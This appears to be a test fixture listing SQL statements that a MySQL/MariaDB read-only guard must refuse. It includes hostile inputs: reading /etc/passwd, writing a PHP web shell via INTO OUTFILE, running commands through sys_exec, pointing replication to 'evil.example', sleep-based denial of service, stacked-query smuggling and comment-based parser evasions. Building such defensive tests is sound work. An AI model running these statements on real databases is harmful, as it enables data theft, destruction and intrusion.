-- Hostile statements for the MySQL / MariaDB guard: every entry must be refused.
-- Entries are separated by a line containing only "-- next"; a chunk made only
-- of "--" comment lines (like this header) is not an entry.
-- next
INSERT INTO t VALUES (1)
-- next
INSERT IGNORE INTO t VALUES (1)
-- next
INSERT INTO t SELECT * FROM u
-- next
REPLACE INTO t VALUES (1)
-- next
UPDATE t SET a = 1
-- next
UPDATE t JOIN u ON t.id = u.id SET t.a = u.a
-- next
DELETE FROM t
-- next
DELETE t FROM t JOIN u ON t.id = u.id
-- next
DROP TABLE t
-- next
CREATE TABLE x (a INT)
-- next
CREATE TEMPORARY TABLE x (a INT)
-- next
ALTER TABLE t ADD COLUMN b INT
-- next
TRUNCATE TABLE t
-- next
RENAME TABLE t TO u
-- next
GRANT ALL ON *.* TO 'u'@'%'
-- next
REVOKE ALL PRIVILEGES ON *.* FROM 'u'@'%'
-- next
CREATE USER 'u'@'%' IDENTIFIED BY 'x'
-- next
ALTER USER 'u'@'%' IDENTIFIED BY 'x'
-- next
DROP USER 'u'@'%'
-- next
CREATE ROLE r
-- next
SET GLOBAL read_only = 0
-- next
SET SESSION TRANSACTION READ WRITE
-- next
SET TRANSACTION READ WRITE
-- next
SET @@session.transaction_read_only = 0
-- next
SET sql_mode = ''
-- next
SET @a = 1
-- next
SET NAMES latin1
-- next
COMMIT; DROP TABLE x
-- next
SELECT 1; DELETE FROM t
-- next
SELECT * FROM t WHERE a = ?; DELETE FROM t
-- next
BEGIN
-- next
START TRANSACTION READ WRITE
-- next
ROLLBACK
-- next
SAVEPOINT s
-- next
XA START 'x'
-- next
CALL p()
-- next
PREPARE s FROM 'DELETE FROM t'
-- next
EXECUTE s
-- next
DEALLOCATE PREPARE s
-- next
HANDLER t OPEN
-- next
HANDLER t READ FIRST
-- next
LOAD DATA INFILE '/etc/passwd' INTO TABLE t
-- next
LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t
-- next
LOAD XML INFILE '/tmp/x.xml' INTO TABLE t
-- next
FLUSH PRIVILEGES
-- next
FLUSH TABLES WITH READ LOCK
-- next
KILL 1
-- next
KILL QUERY 1
-- next
SHUTDOWN
-- next
LOCK TABLES t WRITE
-- next
UNLOCK TABLES
-- next
OPTIMIZE TABLE t
-- next
ANALYZE TABLE t
-- next
REPAIR TABLE t
-- next
INSTALL PLUGIN x SONAME 'x.so'
-- next
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'
-- next
CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM t
-- next
CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1
-- next
CHANGE MASTER TO MASTER_HOST = 'evil.example'
-- next
RESET MASTER
-- next
PURGE BINARY LOGS BEFORE NOW()
-- next
DO SLEEP(10)
-- next
DO GET_LOCK('x', 10)
-- next
/*!50000 DELETE FROM t */
-- next
/*M!100000 DROP TABLE t */
-- next
SELECT /*!50000 sleep(10) */ 1
-- next
SELECT 1 /*!, sleep(10) */
-- next
SELECT * FROM t /*m!, (SELECT sleep(5)) AS x */
-- next
SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM t
-- next
SELECT 1 INTO OUTFILE '/tmp/x'
-- next
SELECT * FROM t INTO OUTFILE '/var/www/html/shell.php'
-- next
SELECT * FROM t INTO DUMPFILE '/tmp/x'
-- next
SELECT a INTO @v FROM t
-- next
SELECT a FROM t INTO @v
-- next
SELECT * FROM t FOR UPDATE
-- next
SELECT * FROM t FOR SHARE
-- next
SELECT * FROM t LOCK IN SHARE MODE
-- next
SELECT * FROM t FOR UPDATE NOWAIT
-- next
SELECT sleep(100)
-- next
SELECT SLEEP(100)
-- next
SELECT `sleep`(100)
-- next
SELECT sleep (100)
-- next
SELECT sleep/**/(100)
-- next
SELECT benchmark(100000000, md5('x'))
-- next
SELECT BENCHMARK(1000000000, SHA2('x', 512))
-- next
SELECT load_file('/etc/passwd')
-- next
SELECT get_lock('x', 10)
-- next
SELECT release_lock('x')
-- next
SELECT release_all_locks()
-- next
SELECT is_free_lock('x')
-- next
SELECT is_used_lock('x')
-- next
SELECT master_pos_wait('binlog.000001', 4)
-- next
SELECT source_pos_wait('binlog.000001', 4)
-- next
SELECT master_gtid_wait('0-1-100', 10)
-- next
SELECT wait_for_executed_gtid_set('3E11FA47-71CA-11E1-9E33-C80AA9429562:1-5', 10)
-- next
SELECT sys_exec('id')
-- next
SELECT sys_eval('id')
-- next
SELECT * FROM t WHERE sleep(1) = 0
-- next
SELECT * FROM t WHERE id = 1 AND (SELECT sleep(5))
-- next
SELECT * FROM t ORDER BY sleep(1)
-- next
SELECT (SELECT load_file('/etc/passwd')) AS f
-- next
WITH x AS (SELECT sleep(5)) SELECT * FROM x
-- next
SELECT IF(1 = 1, sleep(5), 0)
-- next
SELECT CASE WHEN a = 1 THEN sleep(1) ELSE 0 END FROM t
-- next
SELECT 1 UNION SELECT sleep(1)
-- next
SELECT * FROM t WHERE a IN (SELECT sleep(1))
-- next
SELECT * FROM (SELECT sleep(1)) AS x
-- next
SELECT @v := 1
-- next
SELECT @v := user FROM mysql.user
-- next
SELECT a, @rank := @rank + 1 FROM t
-- next
SELECT * FROM t WHERE a = (SELECT @x := 1)
-- next
EXPLAIN ANALYZE SELECT * FROM t
-- next
EXPLAIN DELETE FROM t
-- next
EXPLAIN SELECT sleep(10)
-- next
-- the character right after the next "--" is a no-break space (U+00A0)
SELECT a -- x, sleep(10)
FROM (SELECT 1 AS a, 2 AS ` x`) AS s
-- next
-- sqlparser stops at END after a statement: the rest must not be skipped
SELECT a FROM t END; DROP TABLE t
-- next
SELECT 1 END DELETE FROM t
